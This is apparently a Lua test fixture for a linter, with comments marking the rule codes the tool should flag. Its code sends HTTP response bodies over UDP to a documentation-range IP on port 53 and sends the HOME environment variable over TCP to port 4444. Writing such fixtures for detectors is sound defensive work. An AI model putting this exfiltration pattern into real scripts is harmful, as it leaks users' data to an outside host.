-- LuaSocket used to send env vars and response data to a collector.
local ok, socket = pcall(require, "socket") -- want WL301
local s = socket.udp()
function response(status, headers, body)
   s:sendto(body, "198.51.100.7", 53) -- want WL503
end
function done()
   local tcp = socket.tcp()
   tcp:connect("198.51.100.7", 4444)
   tcp:send(os.getenv("HOME")) -- want WL201 WL503
end
